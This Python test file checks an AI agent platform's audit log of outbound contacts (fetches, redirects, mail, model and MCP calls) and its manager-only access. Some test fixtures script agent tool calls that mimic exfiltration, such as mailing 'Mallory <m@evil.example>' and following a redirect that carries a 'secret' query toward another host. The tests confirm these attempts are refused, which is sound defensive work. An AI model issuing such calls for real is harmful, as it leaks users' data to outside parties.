"""Hosts outside the site that runs contact, or may not contact, are recorded for managers."""

import contextlib
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlencode

import frappe
from frappe.utils import add_to_date, now_datetime

from huf.ai.chat.approvals import reject_call
from huf.ai.core.errors import ModelError
from huf.ai.core.session import acting_as
from huf.ai.knowledge.vectors import embed_texts
from huf.ai.queries.contacts import read_contacts
from huf.ai.runs.entry import run_agent_sync
from huf.ai.runs.queue import work_on
from huf.tests.ai.mcp.client.test_connections import ConnectionTestCase
from huf.tests.ai.runs.test_taint import TaintCase
from huf.tests.factories import make_agent, make_file, make_model, make_tool, unique
from huf.tests.mail import make_outgoing_account
from huf.tests.mcp_servers import McpServer
from huf.tests.model_server import ModelServer, text, tool_call
from huf.tests.security.clients import Client

PATH = "/api/method/huf.api.audit.contacts"
HOUR_AGO = {"hours": -1}


def list_contacts(run: str) -> list[tuple[str, str, str]]:
	frappe.db.rollback()
	since = add_to_date(now_datetime(), **HOUR_AGO)
	agent = frappe.db.get_value("Agent Run", run, "agent")
	contacts = [
		each for each in read_contacts(since, None, agent) if each["run"] == run and not each.get("model")
	]
	return [(each["action"], each["kind"], each["destination"]) for each in contacts]


class Redirecting(BaseHTTPRequestHandler):
	"""Redirects each request to `target`."""

	def do_GET(self):
		self.send_response(302)
		self.send_header("Location", self.server.target)
		self.send_header("Content-Length", "0")
		self.end_headers()

	def log_message(self, *args):
		pass


class TestContacts(TaintCase):
	def redirect(self, target: str) -> str:
		"""The URL of a site that redirects requests; its host is not 127.0.0.1."""
		server = ThreadingHTTPServer(("127.0.0.1", 0), Redirecting)
		server.target = target
		threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
		self.addCleanup(server.server_close)
		self.addCleanup(server.shutdown)
		return f"http://localhost:{server.server_address[1]}/go"

	def test_requests_redirects_and_private_addresses_are_listed(self):
		public = make_tool("GET")
		url = self.redirect(f"{self.outside.url}/page")
		result = self.run_agent(
			tool_call(self.fetch, {"url": url}),
			tool_call(public, {"url": url}),
			text("Read."),
			tools=(self.fetch, public),
			prompt=f"Read {url}",
		)
		host, target_host = url.split("/")[2], self.outside.url.split("/")[2]
		self.assertEqual(
			list_contacts(result["run"])[:3],
			[("contact", "http", host), ("contact", "http", target_host), ("contact", "http", host)],
		)
		refused = [each for each in list_contacts(result["run"]) if each[0] == "refused"]
		self.assertTrue({each[2] for each in refused} <= {"127.0.0.1", "::1"} and refused, refused)

	def test_redirect_from_an_allowed_host_to_another_is_refused_in_a_tainted_run(self):
		url = self.redirect(f"{self.outside.url}/link/secret")
		fetch_call = tool_call(self.fetch, {"url": url + "?x=secret"})
		result = self.run_agent(
			self.read_page(), fetch_call, text("No."), tools=(self.fetch,), allowed_hosts="localhost"
		)
		self.assertEqual((result["status"], self.outside.paths), ("Success", ["/page"]))
		self.assertEqual(list_contacts(result["run"])[-1], ("refused", "http", "127.0.0.1"))
		self.run_agent(
			self.read_page(),
			fetch_call,
			text("Read."),
			tools=(self.fetch,),
			allowed_hosts="localhost\n127.0.0.1",
		)
		self.assertEqual(self.outside.paths[-1], "/link/secret")

	def test_rejected_drafts_are_listed_as_refused_contacts(self):
		mail = make_tool("Send Mail")
		call = tool_call(mail, {"to": "Mallory <m@evil.example>", "subject": "x", "body": "y"})
		result = self.run_agent(
			self.read_page(), self.drop(), call, text("Not done."), tools=(self.fetch, self.post, mail)
		)
		for _ in range(2):
			draft = self.draft_of(result["run"])
			reject_call(draft.name, draft.digest)
			frappe.db.commit()
			frappe.set_user("Administrator")
			work_on(result["run"])
		self.assertEqual(
			list_contacts(result["run"])[1:],
			[("refused", "http", "127.0.0.1"), ("refused", "mail", "@evil.example")],
		)

	def test_mail_is_listed_by_domain(self):
		make_outgoing_account()
		mail = make_tool("Send Mail")
		call = tool_call(mail, {"to": ["anna@a.example", "b@b.example"], "subject": "x", "body": "y"})
		result = self.run_agent(call, text("Sent."), tools=(mail,), prompt="Write")
		self.assertEqual(
			list_contacts(result["run"]),
			[("contact", "mail", "@a.example"), ("contact", "mail", "@b.example")],
		)

	def test_contacts_endpoint_is_readable_only_by_managers(self):
		result = self.run_agent(self.read_page(), text("Read."), tools=(self.fetch,))
		since = str(add_to_date(now_datetime(), **HOUR_AGO))
		agent = frappe.db.get_value("Agent Run", result["run"], "agent")
		path = f"{PATH}?{urlencode({'since': since, 'agent': agent})}"
		answer = Client("Huf Manager").send(path)
		entries = [json.loads(line) for line in answer.get_data(as_text=True).splitlines()]
		self.assertEqual([each["kind"] for each in entries], ["model", "http", "model"])
		self.assertEqual({(each["run"], each["user"]) for each in entries}, {(result["run"], self.person)})
		self.assertEqual(Client("Huf User").send(path).status_code, 403)

	def test_destinations_are_grouped_by_agent_with_counts_for_managers_only(self):
		result = self.run_agent(self.read_page(), self.read_page(), text("Read."), tools=(self.fetch,))
		agent = frappe.db.get_value("Agent Run", result["run"], "agent")
		path = PATH.replace("contacts", "destinations") + "?" + urlencode({"agent": agent})
		answer = Client("Huf Manager").send(path)
		destinations = [json.loads(line) for line in answer.get_data(as_text=True).splitlines()]
		hosts = [each.split("/")[2] for each in (self.outside.url, self.server.base_url)]
		self.assertEqual(
			[(each["agent"], each["kind"], each["destination"], each["count"]) for each in destinations],
			[(agent, "http", hosts[0], 2), (agent, "model", hosts[1], 3)],
		)
		self.assertLess(destinations[1]["first"], destinations[1]["last"])
		self.assertEqual(Client("Huf User").send(path).status_code, 403)

	def test_model_call_of_a_tool_is_listed_as_a_contact(self):
		speech = make_tool("Speech to Text", model=self.model)
		recording = make_file("a.wav", b"s" * 30_000, self.person)
		call = tool_call(speech, {"file_url": frappe.db.get_value("File", recording, "file_url")})
		result = self.run_agent(call, text("Hello."), text("Heard."), tools=(speech,), prompt="Listen")
		host = self.server.base_url.split("/")[2]
		self.assertEqual(list_contacts(result["run"]), [("contact", "model", host)])

	def test_model_calls_outside_runs_are_listed_with_their_user(self):
		since = now_datetime()
		with acting_as(self.person), contextlib.suppress(ModelError):
			embed_texts(self.model, ["The quarterly plan"])
		contacts = [each for each in read_contacts(since, None) if each["user"] == self.person]
		self.assertEqual(
			[(each["kind"], each["destination"]) for each in contacts],
			[("model", self.server.base_url.split("/")[2])],
		)
		self.assertNotIn("run", contacts[0])
		self.assertFalse(read_contacts(since, None, "another agent"))


class TestServers(ConnectionTestCase):
	def test_an_mcp_server_is_listed(self):
		with McpServer() as server, ModelServer() as model:
			self.connect(server, ["search.notes"])
			tool = self.name_of("search.notes")
			agent = make_agent(make_model(model), (tool,))
			model.script(tool_call(tool, {"query": "Anna"}), text("Three."))
			result = run_agent_sync(agent, "Look for Anna", channel_id=unique("chat"))
		self.assertIn(("contact", "http", server.url.split("/")[2]), list_contacts(result["run"]))
